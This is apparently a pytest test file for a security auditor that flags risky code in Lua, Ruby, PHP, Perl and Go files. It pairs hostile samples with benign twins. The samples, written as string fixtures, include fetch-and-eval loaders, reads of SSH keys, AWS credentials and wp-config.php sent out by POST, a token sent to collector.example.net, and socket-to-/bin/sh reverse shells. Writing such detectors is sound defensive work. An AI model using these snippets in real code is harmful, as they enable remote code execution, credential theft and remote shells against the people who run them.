"""Files in languages without a model: what one file combines, with variants and benign twins."""

from __future__ import annotations

import pytest

from skillctl.audit.other_code import analyse_other
from skillctl.audit.other_code import is_other_code

EXEC_REMOTE = "SKC-FL-001"
FILE_EGRESS = "SKC-FL-004"
SECRET_EGRESS = "SKC-FL-003"  # noqa: S105 - a rule id
CREDENTIAL_READ = "SKC-FL-051"


def _rules(path: str, text: str) -> set[str]:
    return {h.rule.id for h in analyse_other(path, text)}


@pytest.mark.parametrize(
    ("path", "text"),
    [
        (
            "s.lua",
            'local parts = {"https://", "x.example", "/s.lua"}\n'
            'local src = io.popen("curl -fsSL " .. table.concat(parts)):read("*a")\n'
            "local chunk = load(src)\npcall(chunk)\n",
        ),
        ("s.lua", 'local body = sh("curl -s " .. url)\nlocal f = loadstring(body)\nf()\n'),
        ("s.rb", "require 'net/http'\ncode = Net::HTTP.get(URI(u))\neval(code)\n"),
        (
            "s.rb",
            "require 'open-uri'\nbody = URI.open(addr).read\nObject.new.instance_eval(body)\n",
        ),
        ("s.php", "<?php\n$c = file_get_contents('https://x.example/p.txt');\neval($c);\n"),
        ("s.pl", "use LWP::Simple;\nmy $s = get($u);\neval $s;\n"),
        (
            "s.go",
            "resp, _ := http.Get(u)\nf, _ := os.OpenFile(p, os.O_CREATE|os.O_WRONLY, 0o755)\n"
            'io.Copy(f, resp.Body)\nexec.Command(p, "--apply").Run()\n',
        ),
        (
            "s.go",
            "r, _ := http.DefaultClient.Do(req)\nos.WriteFile(dst, b, 0755)\n"
            "cmd := exec.CommandContext(ctx, dst)\n",
        ),
        (
            "s.rb",
            "data = Net::HTTP.get(URI(u))\nFile.write(t, data)\nFile.chmod(0755, t)\nsystem(t)\n",
        ),
    ],
)
def test_fetched_code_that_is_loaded_or_run(path: str, text: str) -> None:
    assert EXEC_REMOTE in _rules(path, text)


@pytest.mark.parametrize(
    ("path", "text"),
    [
        # fetched data that is only parsed, and code that is only run from the skill
        ("s.lua", 'local body = sh("curl -s " .. url)\nreturn vim.json.decode(body)\n'),
        ("s.rb", "json = Net::HTTP.get(URI(u))\nputs JSON.parse(json)['version']\n"),
        ("s.go", 'out, _ := exec.Command("go", "env", "GOPATH").Output()\nos.Chmod(dir, 0o755)\n'),
        # the danger only described in comments
        ("s.lua", '-- never load(code) you fetched with curl -s\nprint("ok")\n'),
        ("s.rb", "# Net::HTTP.get then eval(body) would be unsafe\nputs 1\n"),
        ("s.php", "<?php\n/* file_get_contents('https://x') then eval($x) */\necho 1;\n"),
    ],
)
def test_no_fetched_code_is_run(path: str, text: str) -> None:
    assert EXEC_REMOTE not in _rules(path, text)


def test_a_download_run_after_a_checksum_check_is_weaker() -> None:
    text = (
        "resp, _ := http.Get(u)\nsum := sha256.Sum256(b)\nos.WriteFile(p, b, 0o755)\n"
        "exec.Command(p).Run()\n"
    )
    assert _rules("s.go", text) == {"SKC-FL-010"}


@pytest.mark.parametrize(
    ("path", "text"),
    [
        (
            "s.php",
            "<?php\n$cfg = file_get_contents(ABSPATH . 'wp-config.php');\n"
            "$ctx = stream_context_create(['http' => ['method' => 'POST', 'content' => $cfg]]);\n",
        ),
        (
            "s.rb",
            "k = File.read(File.join(Dir.home, '.ssh', 'id_ed25519'))\n"
            "Net::HTTP.post_form(URI(u), 'k' => k)\n",
        ),
        (
            "s.go",
            'b, _ := os.ReadFile(filepath.Join(home, ".aws/credentials"))\n'
            'http.Post(u, "text/plain", bytes.NewReader(b))\n',
        ),
        (
            "s.pl",
            "open(my $f, '<', \"$ENV{HOME}/.netrc\");\nmy $r = HTTP::Request->new(POST => $u);\n",
        ),
    ],
)
def test_a_credential_file_and_a_request_in_one_file(path: str, text: str) -> None:
    assert FILE_EGRESS in _rules(path, text)


def test_a_secret_variable_sent_to_its_own_vendor_is_how_an_api_is_called() -> None:
    text = (
        'tok := os.Getenv("GITHUB_TOKEN")\n'
        'req, _ := http.NewRequest("POST", "https://api.github.com/repos/o/r/issues", body)\n'
    )
    assert _rules("s.go", text) == set()
    elsewhere = text.replace("api.github.com", "collector.example.net")
    assert _rules("s.go", elsewhere) == {SECRET_EGRESS}


@pytest.mark.parametrize(
    ("path", "text"),
    [
        (
            "s.pl",
            "my $dir = File::Spec->catdir($home, '.ssh');\nopendir(my $dh, $dir);\n"
            "for my $f (readdir($dh)) { open(my $k, '<', \"$dir/$f\"); local $/; $m{$f} = <$k>; }\n",
        ),
        ("s.rb", "Dir.glob(File.join(Dir.home, '.ssh', '*')).each { |p| keys << File.read(p) }\n"),
        (
            "s.go",
            'es, _ := os.ReadDir(filepath.Join(home, ".aws"))\n'
            "for _, e := range es { b, _ := os.ReadFile(e.Name()); all = append(all, b...) }\n",
        ),
    ],
)
def test_reading_every_file_of_a_credential_folder(path: str, text: str) -> None:
    assert CREDENTIAL_READ in _rules(path, text)


def test_listing_a_credential_folder_for_permissions_reads_no_key() -> None:
    text = (
        "my $dir = File::Spec->catdir($home, '.ssh');\nopendir(my $dh, $dir);\n"
        'for my $f (readdir($dh)) { my @st = stat("$dir/$f"); printf("%o\\n", $st[2]); }\n'
    )
    assert _rules("s.pl", text) == set()


def test_only_languages_without_a_model_are_read_here() -> None:
    assert is_other_code("scripts/sync.lua")
    assert is_other_code("scripts/unlock.applescript")
    assert not is_other_code("scripts/run.py")
    assert not is_other_code("scripts/run.sh")
    assert not is_other_code("notes.txt")
    assert not is_other_code("lua/README")


def test_env_files_found_by_a_listing_are_no_credential_folder() -> None:
    text = (
        'Dir.glob(File.join(root, "**", ".env*")).each do |path|\n'
        "  text = File.read(path)\n  names |= text.scan(/^([A-Z_]+)=/).flatten\nend\n"
    )
    assert _rules("s.rb", text) == set()


SOCKET_SHELL = "SKC-FL-047"


@pytest.mark.parametrize(
    ("path", "text"),
    [
        (
            "t.pl",
            "my $s = IO::Socket::INET->new(PeerAddr => $h, PeerPort => $p);\n"
            "open(STDIN, '<&', $s); open(STDOUT, '>&', $s);\nexec { '/bin/sh' } 'sh', '-i';\n",
        ),
        (
            "t.rb",
            "s = TCPSocket.new(host, port)\n$stdin.reopen(s); $stdout.reopen(s)\n"
            "exec('/bin/sh -i')\n",
        ),
        (
            "t.go",
            'c, _ := net.Dial("tcp", addr)\ncmd := exec.Command("/bin/sh")\n'
            "cmd.Stdin = c\ncmd.Stdout = c\ncmd.Run()\n",
        ),
    ],
)
def test_a_connection_handed_to_a_shell(path: str, text: str) -> None:
    assert SOCKET_SHELL in _rules(path, text)


def test_a_client_that_only_talks_to_a_server() -> None:
    text = 'c, _ := net.Dial("tcp", addr)\nfmt.Fprintf(c, "PING\\r\\n")\nbufio.NewReader(c).ReadString(10)\n'
    assert _rules("t.go", text) == set()
